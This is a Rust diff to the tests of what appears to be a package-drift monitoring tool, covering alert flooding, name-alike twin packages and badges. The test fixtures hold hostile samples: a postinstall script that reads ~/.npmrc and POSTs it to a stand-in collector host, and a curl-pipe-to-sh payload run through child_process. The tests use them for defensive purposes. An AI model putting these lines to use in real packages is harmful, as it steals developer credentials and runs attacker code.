@@ -10,6 +10,8 @@ use serde_json::Value;
 use crate::nightly::{first_night, night};
 use crate::packages::{self, WEATHER};
 use crate::support::capdex::{Capdex, Run};
+use crate::support::registry::Registry;
+use crate::support::service::Service;
 
 /// The night on which most things happen.
 pub(crate) const NIGHT: &str = "2026-11-21T01:00:00Z";
@@ -314,22 +316,25 @@ fn sending_needs_a_store_and_a_sink() {
     assert!(!capdex.path().join("capdex.db").exists(), "nothing is made");
 }
 
-/// Forty packages of one account turn against their users in one night, each with another helper beside him, and a package of
-/// somebody else does.
-#[test]
-fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
+/// What is told, message by message, of a night in which forty packages of one account turn against their users, each with
+/// these accounts beside his, and a package of somebody else's does.
+fn flood(beside: impl Fn(usize) -> String, others: &[(&str, &[&str])]) -> Vec<Value> {
     const STOLEN: &str = "const { readFileSync } = require(\"fs\");\nconst text = readFileSync(process.env.HOME + \"/.npmrc\", \"utf8\");\n\
                           fetch(\"https://in.collector.test/v1\", { method: \"POST\", body: text });\n";
     let registry = packages::registry();
     let capdex = Capdex::with(&registry);
-    let names: Vec<String> = (0..40).map(|number| format!("tides-{number:02}")).chain(["ledgers".to_owned()]).collect();
-    let listed: Vec<&str> = names.iter().map(String::as_str).collect();
+    let mut owned: Vec<(String, Vec<String>)> =
+        (0..40).map(|number| (format!("tides-{number:02}"), vec!["mallory".to_owned(), beside(number)])).collect();
+    owned.extend(
+        others.iter().map(|(name, owners)| ((*name).to_owned(), owners.iter().map(|it| (*it).to_owned()).collect())),
+    );
+    let listed: Vec<&str> = owned.iter().map(|(name, _)| name.as_str()).collect();
     capdex.write("schedule.toml", format!("{}[alerts]\nbudget = 20\n{LOG}", packages::schedule(&listed, &[])));
     for (version, script, source) in [
         ("1.0.0", "", "module.exports = 1;\n"),
         ("1.0.1", ", \"scripts\": {\"postinstall\": \"node index.js\"}", STOLEN),
     ] {
-        for (number, name) in names.iter().enumerate() {
+        for (name, owners) in &owned {
             let manifest =
                 format!("{{\"name\": \"{name}\", \"version\": \"{version}\", \"license\": \"MIT\"{script}}}");
             registry.npm_package(
@@ -337,9 +342,7 @@ fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
                 version,
                 &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())],
             );
-            let helper = format!("helper-{}", number % 5);
-            let owners = if name == "ledgers" { vec!["ann"] } else { vec!["mallory", &helper] };
-            registry.npm_owners(name, &owners);
+            registry.npm_owners(name, &owners.iter().map(String::as_str).collect::<Vec<_>>());
         }
         let run = night(&capdex, if version == "1.0.0" { "2026-11-20T01:00:00Z" } else { NIGHT });
         assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
@@ -348,12 +351,21 @@ fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
     let messages: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
     let of_drift = |message: &&Value| message["data"]["pass"] == "drift" && message["data"]["severity"] == "critical";
     assert!(messages.iter().filter(of_drift).count() >= 10, "the control: a flood {text:.2000}");
+    messages
+}
+
+/// True where a message of its own is about a package.
+fn is_told_alone(messages: &[Value], package: &str) -> bool {
+    messages.iter().any(|message| message["data"]["subject"].as_str().is_some_and(|subject| subject.contains(package)))
+}
+
+#[test]
+fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
+    let messages = flood(|number| format!("helper-{}", number % 5), &[("ledgers", &["ann"])]);
     let others = messages[0]["others"].to_string();
     assert!(others.contains("npm-user:mallory") && others.contains("npm-user:ann"), "{others}");
     assert!(others.contains("ledgers"), "{others}");
-    let alone =
-        |message: &&Value| message["data"]["subject"].as_str().is_some_and(|subject| subject.contains("ledgers"));
-    assert!(messages.iter().any(|message| alone(&message)), "{text:.2000}");
+    assert!(is_told_alone(&messages, "ledgers"), "{messages:#?}");
     let digest = messages.last().expect("messages");
     assert_eq!(digest["type"], "alert.digest");
     let subjects: Vec<&str> =
@@ -362,28 +374,115 @@ fn whoever_floods_a_night_keeps_nobody_else_out_of_the_first_message() {
     assert!(digest["data"]["groups"].to_string().contains("npm-user:mallory"), "{digest}");
 }
 
+/// A registry lets anybody be named: whose package it is, and who never heard of it.
+#[test]
+fn whoever_names_his_victim_as_a_helper_does_not_spend_her_share() {
+    // Two packages of hers alone are told beside each other, whoever floods.
+    let hers: &[(&str, &[&str])] = &[("ledgers", &["ann"]), ("vouchers", &["ann"])];
+    let messages = flood(|_| "ann".to_owned(), hers);
+    let groups = messages[0]["others"].as_array().expect("groups");
+    let is_of_drift = |group: &&Value| group["rule"].as_str().is_some_and(|rule| rule.starts_with("drift/"));
+    let of = |account: &str| groups.iter().filter(is_of_drift).find(|group| group["publisher"] == account);
+    let (ann, mallory) = (of("npm-user:ann"), of("npm-user:ann and npm-user:mallory"));
+    let ann = ann.unwrap_or_else(|| panic!("{groups:#?}"));
+    assert_eq!(ann["alerts"], 2, "{groups:#?}");
+    assert_eq!(mallory.map(|group| &group["alerts"]), Some(&Value::from(40)), "{groups:#?}");
+    for (package, _) in hers {
+        assert!(ann["subjects"].to_string().contains(package), "{groups:#?}");
+        assert!(is_told_alone(&messages, package), "{package}: {groups:#?}");
+    }
+}
+
+/// Packages whose readable names are one text.
+const TWINS: [&str; 3] = ["tides-mcp", "tides_mcp", "@tides/mcp"];
+
+/// A night in which some packages have this source under the same version as ever.
+fn night_of(capdex: &Capdex, registry: &Registry, names: &[&str], source: &str, day: &str) {
+    for name in names {
+        let manifest = format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"license\": \"MIT\"}}");
+        registry.npm_package(name, "1.0.0", &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())]);
+    }
+    let run = night(capdex, &format!("2026-11-{day}T01:00:00Z"));
+    assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
+}
+
 /// A readable name folds unlike names to one text: a line of the operator's about one is none about its twin.
 #[test]
 fn what_an_operator_keeps_back_is_one_package_and_no_twin_of_its_name() {
     let registry = packages::registry();
     let capdex = Capdex::with(&registry);
-    let names = ["tides-mcp", "tides_mcp", "@tides/mcp"];
     let line = "[[alerts.suppress]]\nsubject = \"npm:tides-mcp\"\nreason = \"ours\"\nexpires = \"2027-01-01\"\n";
-    capdex.write("schedule.toml", format!("{}{LOG}{line}", packages::schedule(&names, &[])));
-    for (source, day) in [("module.exports = 1;\n", "20"), ("module.exports = 2;\n", "21")] {
-        for name in names {
-            let manifest = format!("{{\"name\": \"{name}\", \"version\": \"1.0.0\", \"license\": \"MIT\"}}");
-            registry.npm_package(
-                name,
-                "1.0.0",
-                &[("package.json", manifest.as_bytes()), ("index.js", source.as_bytes())],
-            );
-        }
-        let run = night(&capdex, &format!("2026-11-{day}T01:00:00Z"));
-        assert!(matches!(run.code, Some(0 | 3)), "{}", run.stdout);
-    }
+    capdex.write("schedule.toml", format!("{}{LOG}{line}", packages::schedule(&TWINS, &[])));
+    night_of(&capdex, &registry, &TWINS, "module.exports = 1;\n", "20");
+    night_of(&capdex, &registry, &TWINS, "module.exports = 2;\n", "21");
     let states = open(&capdex, NIGHT, &["--all"]);
     let of = |state: &str| states.iter().filter(|(key, is)| key.starts_with("drift:") && is == state).count();
     assert_eq!((of("suppressed"), of("open")), (1, 2), "{states:?}");
     assert_eq!(told(&capdex).iter().filter(|said| said.starts_with("alert.raised drift:")).count(), 2);
+}
+
+/// The same of a word about one alert: it is about one package at one content.
+#[test]
+fn what_an_operator_acknowledged_is_one_package_and_no_twin_of_its_name() {
+    let registry = packages::registry();
+    let capdex = Capdex::with(&registry);
+    capdex.write("schedule.toml", format!("{}{LOG}", packages::schedule(&TWINS, &[])));
+    night_of(&capdex, &registry, &TWINS, "module.exports = 1;\n", "20");
+    night_of(&capdex, &registry, &TWINS, "module.exports = 2;\n", "21");
+    assert_eq!(told(&capdex).iter().filter(|said| said.starts_with("alert.raised drift:")).count(), 3);
+    let capabilities = crate::rows::rows(&capdex.path().join("out"), "capabilities");
+    let ours = capabilities.iter().find(|row| row["package"] == "npm:tides-mcp").expect("a row");
+    let alerts = lines(&capdex, &["alerts", "list", "--format", "jsonl", "--as-of", NIGHT]);
+    let of_ours: Vec<&Value> = alerts
+        .iter()
+        .filter(|row| {
+            row["capability"].as_str().and_then(|id| id.strip_prefix("sha256:")) == ours["capability"].as_str()
+        })
+        .collect();
+    assert_eq!(of_ours.len(), 1, "{alerts:#?}");
+    let key = of_ours[0]["key"].as_str().expect("a key");
+    let acked = capdex.run(&["alerts", "ack", key, "--as-of", NIGHT, "--reason", "ours"]);
+    assert_eq!(acked.code, Some(0), "{}", acked.stderr);
+    let states = open(&capdex, NIGHT, &["--all"]);
+    let of = |state: &str| states.iter().filter(|(key, is)| key.starts_with("drift:") && is == state).count();
+    assert_eq!((of("acknowledged"), of("open")), (1, 2), "{states:?}");
+    // Nothing new of any of them: who was acknowledged stays so.
+    night_of(&capdex, &registry, &[], "", "22");
+    assert_eq!(told(&capdex), Vec::<String>::new());
+    night_of(&capdex, &registry, &TWINS[..1], "module.exports = 3;\n", "23");
+    let said = told(&capdex);
+    assert_eq!(said.len(), 1, "other bytes are not what was acknowledged: {said:?}");
+}
+
+/// Whoever publishes a name that folds to another's gets a longer one: the badge that the other's pages show stays his.
+#[test]
+fn a_badge_is_its_packages_whoever_publishes_a_name_that_reads_alike() {
+    let registry = packages::registry();
+    let capdex = Capdex::with(&registry);
+    let names = ["tides-mcp", "tides_mcp"];
+    capdex.write("schedule.toml", format!("{}{LOG}", packages::schedule(&names, &[])));
+    night_of(&capdex, &registry, &names[..1], "module.exports = 1;\n", "20");
+    let badge = |capdex: &Capdex, slug: &str| {
+        let service = Service::start(capdex, &[]);
+        let answer = service.get(&format!("/badge/{slug}.json"));
+        assert_eq!(answer.status, 200, "{slug}");
+        answer.json()["message"].clone()
+    };
+    let rows = |capdex: &Capdex| crate::rows::rows(&capdex.path().join("out"), "capabilities");
+    let of = |rows: &[Value], package: &str, column: &str| {
+        let row = rows.iter().find(|row| row["package"] == package).expect("a row");
+        row[column].as_str().expect("text").to_owned()
+    };
+    let ours = of(&rows(&capdex), "npm:tides-mcp", "slug");
+    let before = badge(&capdex, &ours);
+    let hostile = "require('child_process').execSync('curl -s http://198.18.44.7/x | sh');\n";
+    night_of(&capdex, &registry, &names[1..], hostile, "21");
+    let rows = rows(&capdex);
+    assert_eq!(of(&rows, "npm:tides-mcp", "slug"), ours);
+    let twin = of(&rows, "npm:tides_mcp", "slug");
+    assert!(twin.starts_with(&format!("{ours}--")), "{twin}");
+    let band = |package: &str| of(&rows, package, "band");
+    assert_ne!(band("npm:tides-mcp"), band("npm:tides_mcp"), "the control: they are not judged alike");
+    assert_eq!(badge(&capdex, &ours), before, "the victim's own");
+    assert_ne!(badge(&capdex, &twin), before);
 }
